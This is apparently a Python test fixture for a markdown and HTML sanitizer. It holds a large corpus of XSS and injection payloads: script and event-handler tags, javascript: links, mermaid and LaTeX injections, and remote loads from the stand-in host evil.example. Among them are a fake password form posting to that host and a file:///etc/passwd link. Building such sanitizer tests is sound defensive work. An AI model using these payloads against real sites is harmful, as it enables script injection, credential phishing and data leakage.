"""Texts that try to run a script, to load something from elsewhere, or to make a link that does.

Every script would call `alert` or set ``window.__xss``; everything from elsewhere is at ``evil.example``.
`CLOSED` texts stand for themselves and can be joined; an `OPEN` one begins something that it does not end, so
it can only be the last of its text.
"""

from __future__ import annotations

from collections.abc import Iterator

EVIL = "http://evil.example"
RUN = "window.__xss=1;alert(1)"

_TAGS = [
    f"<script>{RUN}</script>",
    f"<ScRiPt >{RUN}</sCrIpT>",
    f"<script src={EVIL}/x.js></script>",
    f'<img src=x onerror="{RUN}">',
    f"<img/src=x/onerror={RUN}>",
    f'<img src={EVIL}/i.png srcset="{EVIL}/i2.png 2x">',
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f'<svg><a xlink:href="javascript:{RUN}"><text y=20>x</text></a></svg>',
    f'<svg><image href="{EVIL}/s.png"/><use href="{EVIL}/s.svg#x"/></svg>',
    f"<svg><foreignObject><body onload={RUN}></foreignObject></svg>",
    f'<math><maction actiontype="statusline#{EVIL}" xlink:href="javascript:{RUN}">x</maction></math>',
    f'<math href="javascript:{RUN}">x</math>',
    f"<math><mtext><table><mglyph><style><!--</style><img title=--><img src=1 onerror={RUN}>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>",
    f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
    f'<svg></p><style><a id="</style><img src=1 onerror={RUN}>">',
    f'<iframe src="javascript:{RUN}"></iframe>',
    f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    f'<object data="{EVIL}/o.swf"></object><embed src="{EVIL}/e.swf">',
    f"<video><source onerror={RUN} src=x></video>",
    f"<video poster={EVIL}/p.png src={EVIL}/v.mp4 autoplay></video><audio src={EVIL}/a.mp3 autoplay>",
    f"<details open ontoggle={RUN}>x</details>",
    f"<input autofocus onfocus={RUN}>",
    f"<body onload={RUN}>",
    f"<marquee onstart={RUN}>x</marquee>",
    f"<link rel=prefetch href={EVIL}/pre><link rel=stylesheet href={EVIL}/c.css>",
    f'<meta http-equiv=refresh content="0;url={EVIL}">',
    f'<base href="{EVIL}/">',
    f"<style>@import '{EVIL}/c.css'; * {{ background: url({EVIL}/b.png) }}</style>",
    f'<div style="background:url({EVIL}/b.png);position:fixed;inset:0">over the page</div>',
    f"<form action={EVIL}/login><input name=password type=password><button>Sign in</button></form>",
    f'<a href="javascript:{RUN}" onmouseover="{RUN}">x</a>',
    f"<a href={EVIL} ping={EVIL}/ping target=_self>x</a>",
    '<div id="app"><div class="mermaid">graph TD; A-->B</div></div>',
    f"<template shadowrootmode=open><script>{RUN}</script></template>",
    f"<x-custom onclick={RUN}>x</x-custom>",
    f"&lt;script&gt;{RUN}&lt;/script&gt; &#60;img src=x onerror={RUN}&#62;",
    f"\\<img src=x onerror={RUN}\\>",
    f"<!-- --><img src=x onerror={RUN}><!-- -->",
    f"<![CDATA[<img src=x onerror={RUN}>]]>",
    f"<?xml-stylesheet href='{EVIL}/c.css'?>",
]
_LINKS = [
    f"[x](javascript:{RUN})",
    f"[x](JaVaScRiPt:{RUN})",
    f"[x]( javascript:{RUN} )",
    f"[x](<javascript:{RUN}>)",
    f"[x](&#106;avascript:{RUN})",
    f"[x](javascript&colon;{RUN})",
    f"[x](java&#10;script:{RUN})",
    f"[x](java\tscript:{RUN})",
    f"[x](\u0001javascript:{RUN})",
    f"[x](\u200bjavascript:{RUN})",
    f"[x](javascript\\:{RUN})",
    f"[x](%6aavascript:{RUN})",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    f"[x](vbscript:{RUN}) [x](file:///etc/passwd) [x](blob:{EVIL}/1)",
    "[x](//evil.example) [x](/gradio_api/upload) [x](#app)",
    f'[x](https://ok.example "title\\" onmouseover=\\"{RUN}")',
    f'[x](https://ok.example/"onmouseover={RUN})',
    f"<javascript:{RUN}> <data:text/html,x> <https://ok.example/?a=<b>> <mailto:a@ok.example>",
    f'https://ok.example/"onmouseover="{RUN} www.ok.example/<script> ftp://evil.example/x',
    f"[x][js]\n\n[js]: javascript:{RUN}",
    f"[y][js2]\n\n[js2]:\n  <JavaScript:{RUN}>\n  'title'",
    "[x](https://ok.example/a) and [\u202egnihtemos](https://ok.example/rtl)",
    f"[![x]({EVIL}/in.png)](javascript:{RUN})",
]
_IMAGES = [
    f"![x]({EVIL}/1.png)",
    f"![]({EVIL}/2.png 'title')",
    f"![x][img] ![img][] ![img]\n\n[img]: {EVIL}/3.png",
    f"\\![x]({EVIL}/4.png) \\\\![x]({EVIL}/5.png) !\\[x]({EVIL}/6.png)",
    f"![a\nb]({EVIL}/7.png)",
    f"| a | b |\n|---|---|\n| ![x]({EVIL}/8.png) | <img src={EVIL}/9.png> |",
    f"- ![x]({EVIL}/10.png)\n  > ![x]({EVIL}/11.png)\n\n1. ![x]({EVIL}/12.png)",
    f"# ![x]({EVIL}/13.png)\n\n***![x]({EVIL}/14.png)***",
    f"![x](data:image/svg+xml,%3Csvg%20onload={RUN}%3E) ![x](javascript:{RUN})",
]
_CODE = [
    f'```html"onmouseover={RUN}\n<img src=x onerror={RUN}>\n```',
    f"```<img src=x onerror={RUN}>\ncode\n```",
    f"~~~js x=<script>{RUN}</script>\n<script>{RUN}</script>\n~~~",
    f"`<img src=x onerror={RUN}>` ``<b>`` ` ` <i onclick={RUN}>",
    f"    <img src=x onerror={RUN}>\n\n\t<img src=x onerror={RUN}>",
    f"``` `x\n<img src=x onerror={RUN}>\n",
    f"```\ncode\n```~\n<img src={EVIL}/f1.png>\n```",
    f" ```\n```\n<img src={EVIL}/f2.png>\n```\n ```",
    f"- ```\n```\n<img src={EVIL}/f3.png>\n```",
    f"a\u2028```\n<img src={EVIL}/f4.png>\n```",
    f'[d]: https://ok.example "\n```\n"\n<img src={EVIL}/f5.png>\n```',
    f"```\r<img src={EVIL}/f6.png>\r```\r<img src={EVIL}/f7.png>",
    f'```mermaid\ngraph TD; A["<img src={EVIL}/m1.png onerror={RUN}>"]; click A href "javascript:{RUN}"\n```',
    f'> ```mermaid\n> graph TD\n> A@{{ img: "{EVIL}/m2.png", label: "x" }}\n> ```',
    f'- ```mermaid\n  graph TD\n  A@{{ img: "{EVIL}/m3.png" }}\n  ```',
]
_MATH = [
    f"$$\\href{{javascript:{RUN}}}{{x}} \\url{{javascript:{RUN}}}$$",
    f"$$\\includegraphics[height=1em]{{{EVIL}/k.png}}$$",
    f"\\(\\htmlData{{x=1}}{{a}}\\htmlId{{app}}{{a}}\\htmlStyle{{background:url({EVIL}/k2.png)}}{{b}}\\)",
    f"\\[\\text{{<img src=x onerror={RUN}>}} \\unicode{{<script>}}\\]",
    f"$$ <img src=x onerror={RUN}> $$ and $$\\def\\x{{\\x\\x}}\\x$$",
    f'[x](https://ok.example "%%%LATEX_BLOCK_0%%%") %%%LATEX_BLOCK_99%%% $$" onmouseover="{RUN}$$',
    f"\\[ $$ \\]\n```\n$$\n<img src={EVIL}/k3.png>\n```\n$$",
    f"```<b>\\(\n\\)```\n<img src={EVIL}/k4.png onerror={RUN}>\n```",
    f"$<img src=x onerror={RUN}>$ $![x]({EVIL}/k5.png)$ $[x](javascript:{RUN})$ $<javascript:{RUN}>$",
    f"$\\href{{javascript:{RUN}}}{{x}}$ $\\includegraphics{{{EVIL}/k6.png}}$ $\\htmlStyle{{color:red}}{{x}}$",
    f"\\( $x$\n```\n$y$ \\)\n<img src={EVIL}/k7.png>\n```\n$z$ \\)",
    f"[x $a$ \\\\\\](javascript:{RUN}) \\[ [x \\\\](javascript:{RUN}) [$x$](javascript:{RUN})",
    f"$a$\n~~~\n$<img src={EVIL}/k8.png>$\n~~~ $\n$<img src={EVIL}/k9.png>$ `$` <img src=x> `$`",
    f"|$<b>|</b>$|\n|---|\n|$<img src={EVIL}/k10.png>|$|",
]
_OTHER = [
    f"${{{RUN}}} {{{{constructor.constructor('{RUN}')()}}}} {{% x %}} #{{{RUN}}}",
    f"\u202e<img src=x onerror={RUN}>\u202c \u200b<\u200bscript>\u2060<\u2060script>{RUN}",
    f"\uff1cscript\uff1e{RUN}\uff1c/script\uff1e ‹script›",
    f"a\n\n</div></span></body></html><img src=x onerror={RUN}>",
    f"\"><img src=x onerror={RUN}> '><svg onload={RUN}> -->",
    "> " * 60 + f"<img src=x onerror={RUN}>",
    "[" * 300 + "x" + f"](javascript:{RUN})" * 20,
    "*_" * 300 + f"<b onclick={RUN}>" + "_*" * 300,
]
CLOSED = [*_TAGS, *_LINKS, *_IMAGES, *_CODE, *_MATH, *_OTHER]
OPEN = [
    f"<!-- <img src=x onerror={RUN}>",
    f"<script>{RUN}",
    f'<img src="x" onerror="{RUN}',
    f"<textarea><img src=x onerror={RUN}>",
    f"```html\n</code></pre><img src=x onerror={RUN}>",
    f"~~~\n~~~ \n<img src={EVIL}/o1.png>",
    f"$$\n<img src={EVIL}/o2.png>\n```\n<img src={EVIL}/o3.png>",
    f"`<img src={EVIL}/o4.png>",
    f"<svg><style><img src=x onerror={RUN}>",
    f"![x]({EVIL}/o5.png",
    f"[x](javascript:{RUN}",
    f"<plaintext><img src=x onerror={RUN}>",
]


def texts(size: int = 18) -> Iterator[tuple[list[str], str, str]]:
    """The corpus in parts of `size`: the words to be read in a part, and the part twice.

    Each has another of the `OPEN` texts at its end, so that all parts together have each of them twice.
    """
    for start in range(0, len(CLOSED), size):
        part = CLOSED[start : start + size]
        marks = [f"probe{start + number}x" for number in range(len(part))]
        pairs = zip(marks, part, strict=True)
        text = "\n\n".join(f"{mark}\n\n{payload}" for mark, payload in pairs)
        ends = [OPEN[(2 * start // size + number) % len(OPEN)] for number in (0, 1)]
        yield marks, *(f"{text}\n\nprobe-end\n\n{end}" for end in ends)
